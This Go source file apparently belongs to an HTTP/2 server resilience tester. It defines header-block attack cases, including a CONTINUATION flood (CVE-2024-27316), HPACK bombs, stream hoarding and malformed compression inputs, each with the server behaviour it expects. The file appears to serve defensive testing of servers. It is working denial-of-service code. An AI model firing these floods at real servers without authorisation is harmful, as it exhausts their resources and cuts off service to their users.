package attack

import (
	"context"
	"fmt"

	"golang.org/x/net/http2"
)

// clientHeaders are attacks by header blocks (RFC 7541 and RFC 9113 section 4.3).
func clientHeaders() []Client {
	return []Client{
		{
			Name: "endless CONTINUATION", What: "never ends a header block (CVE-2024-27316)",
			Want: []string{calm}, Memory: ordinary,
			Run: continuations(appendLiteral(nil, "a", filler(1000))),
		},
		{
			Name: "tiny CONTINUATION", What: "continues a header block octet by octet",
			Want: []string{calm}, Memory: ordinary, Run: continuations([]byte{0x83}),
		},
		{
			Name: "empty CONTINUATION", What: "continues a header block by nothing",
			Want: []string{calm}, Memory: ordinary, Run: continuations(nil),
		},
		{
			Name: "bomb of indexed fields", What: "refers to a large field of the compression table thousands of times",
			Want: []string{answered, held}, Memory: ordinary, Lasts: true, Run: bomb,
		},
		{
			Name: "table of changing sizes", What: "empties the compression table with each block and fills it again",
			Want: []string{answered, held}, Memory: ordinary, Lasts: true,
			Run: requests(func() []byte {
				p := appendInteger([]byte{0x20}, 0x20, 5, 4096) // to 0, and back
				p = append(p, request(MethodQuick)...)

				return appendIndexing(p, "big", filler(4000))
			}()),
		},
		{
			Name: "fields that are never the same", What: "puts new fields into the compression table with each request",
			Want: []string{answered, held}, Memory: ordinary, Lasts: true, Run: everNew,
		},
		{
			Name: "header lists that are too large", What: "sends 70 KiB of fields with each request",
			Want: []string{answered, held}, Memory: budgeted, Lasts: true,
			Run: requests(request(MethodQuick, "a", filler(70<<10))),
		},
		{
			Name: "large header lists that stay", What: "opens streams with 60 KiB of fields each, and ends none",
			Want: []string{answered, held}, Memory: hoarded, Lasts: true,
			Run: hoard(request(MethodHang, "a", filler(60<<10))),
		},
		{
			Name: "many fields that stay", What: "opens streams with as many empty fields as a list may have, and ends none",
			Want: []string{answered, held}, Memory: hoarded, Lasts: true, Run: manyFields,
		},
		{
			Name: "three changes of the table's size", What: "begins a block with three table size updates (RFC 7541 section 4.2)",
			Want: []string{compressed}, Memory: ordinary, Brief: true, Run: once(http2.FrameHeaders, wholeLast, 1, []byte{0x20, 0x21, 0x20, 0x83}),
		},
		{
			Name: "too large a table", What: "asks for a compression table above SETTINGS_HEADER_TABLE_SIZE (RFC 7541 section 6.3)",
			Want: []string{compressed}, Memory: ordinary, Brief: true,
			Run: once(http2.FrameHeaders, wholeLast, 1, appendInteger(nil, 0x20, 5, 1<<20)),
		},
		{
			Name: "huge integer", What: "sends an integer that does not fit (RFC 7541 section 5.1)",
			Want: []string{compressed}, Memory: ordinary, Brief: true,
			Run: once(http2.FrameHeaders, wholeLast, 1, []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x01}),
		},
		{
			Name: "endless integer", What: "sends an integer of many octets that say nothing",
			Want: []string{compressed}, Memory: ordinary, Brief: true,
			Run: once(http2.FrameHeaders, wholeLast, 1, append([]byte{0xff}, filler80(1000)...)),
		},
		{
			Name: "index beyond the table", What: "refers to a field that is not there (RFC 7541 section 2.3.3)",
			Want: []string{compressed}, Memory: ordinary, Brief: true,
			Run: once(http2.FrameHeaders, wholeLast, 1, appendInteger(nil, 0x80, 7, 100)),
		},
		{
			Name: "text longer than its block", What: "announces 4 GiB of a value",
			Want: []string{compressed}, Memory: ordinary, Brief: true,
			Run: once(http2.FrameHeaders, wholeLast, 1, appendInteger([]byte{0x00, 0x01, 'a'}, 0, 7, 1<<32)),
		},
		{
			Name: "Huffman code that does not end", What: "pads a Huffman code with EOS (RFC 7541 section 5.2)",
			Want: []string{compressed}, Memory: ordinary, Brief: true,
			Run: once(http2.FrameHeaders, wholeLast, 1, []byte{0x00, 0x01, 'a', 0x84, 0xff, 0xff, 0xff, 0xff}),
		},
	}
}

// once sends one frame and waits for the end.
func once(typ http2.FrameType, flags http2.Flags, stream uint32, payload []byte) func(context.Context, string) (End, error) {
	return say(appendFrame(nil, typ, flags, stream, payload))
}

// say sends bytes after the greeting and waits for the end.
func say(p []byte) func(context.Context, string) (End, error) {
	return func(ctx context.Context, address string) (End, error) {
		c, err := greet(ctx, address)
		if err != nil {
			return End{}, err
		}
		_ = c.write(p)
		c.await(ctx, func() bool { return false })

		return c.end(), nil
	}
}

func filler80(size int) []byte {
	p := make([]byte, size)
	for i := range p {
		p[i] = 0x80
	}

	return p
}

// continuations begins a header block and goes on with it for ever.
func continuations(part []byte) func(context.Context, string) (End, error) {
	return func(ctx context.Context, address string) (End, error) {
		c, err := greet(ctx, address)
		if err != nil {
			return End{}, err
		}
		_ = c.write(appendRequest(nil, 0, 1, request(MethodHang)))
		c.flood(ctx, func(p []byte) []byte { return appendFrame(p, http2.FrameContinuation, 0, 1, part) })

		return c.end(), nil
	}
}

// appendBlock appends a header block in as many frames as it takes.
func appendBlock(p []byte, end bool, stream uint32, block []byte) []byte {
	const most = 16 << 10
	var flags http2.Flags
	if end {
		flags = http2.FlagHeadersEndStream
	}
	typ := http2.FrameHeaders
	for len(block) > most {
		p = appendFrame(p, typ, flags, stream, block[:most])
		typ, flags, block = http2.FrameContinuation, 0, block[most:]
	}

	return appendFrame(p, typ, flags|http2.FlagHeadersEndHeaders, stream, block)
}

// requests sends one request after the other, complete, some at a time, and waits
// for their answers.
func requests(block []byte) func(context.Context, string) (End, error) {
	return pipelined(func() []byte { return block })
}

// pipelined sends requests with a block each, 50 at a time.
func pipelined(block func() []byte) func(context.Context, string) (End, error) {
	return func(ctx context.Context, address string) (End, error) {
		const wave = 50

		c, err := greet(ctx, address)
		if err != nil {
			return End{}, err
		}
		ids := streams{}
		for sent := wave; ctx.Err() == nil && !c.over(); sent += wave {
			var p []byte
			for range wave {
				id := ids.next()
				p = appendBlock(p, false, id, block())
				p = appendFrame(p, http2.FrameData, http2.FlagDataEndStream, id, emptyMessage)
			}
			_ = c.write(p)
			c.awaitEnds(ctx, sent)
		}

		return c.end(), nil
	}
}

// bomb fills the table with one field and then names it as often as a block may.
func bomb(ctx context.Context, address string) (End, error) {
	first := true
	base := request(MethodQuick)

	return pipelined(func() []byte {
		if first {
			first = false

			return appendIndexing(append([]byte(nil), base...), "a", filler(4000))
		}
		block := append([]byte(nil), base...)
		for range 16 << 10 {
			block = append(block, 0x80|62)
		}

		return block
	})(ctx, address)
}

func everNew(ctx context.Context, address string) (End, error) {
	n := 0
	base := request(MethodQuick)

	return pipelined(func() []byte {
		block := append([]byte(nil), base...)
		for range 20 {
			n++
			block = appendIndexing(block, fmt.Sprintf("name-%d", n), fmt.Sprintf("value-%d", n))
		}

		return block
	})(ctx, address)
}

// hoard opens as many streams as it may on each of some connections, and ends
// none.
func hoard(block []byte) func(context.Context, string) (End, error) {
	return func(ctx context.Context, address string) (End, error) {
		const connections, wave = 8, 990

		var total End
		var all []*caller
		for range connections {
			c, err := greet(ctx, address)
			if err != nil {
				break // its time is over
			}
			all = append(all, c)
			ids := streams{}
			for i := 0; i < wave && ctx.Err() == nil && !c.over(); i++ {
				_ = c.write(appendBlock(nil, false, ids.next(), block))
			}
		}
		<-ctx.Done()
		for _, c := range all {
			end := c.end()
			total.Sent += end.Sent
			end.Sent = total.Sent
			end.Answered += total.Answered
			end.Reset += total.Reset
			total = end
		}

		return total, nil
	}
}

func manyFields(ctx context.Context, address string) (End, error) {
	block := request(MethodHang)
	block = appendIndexing(block, "a", "")
	for range 1800 {
		block = append(block, 0x80|62)
	}

	return hoard(block)(ctx, address)
}
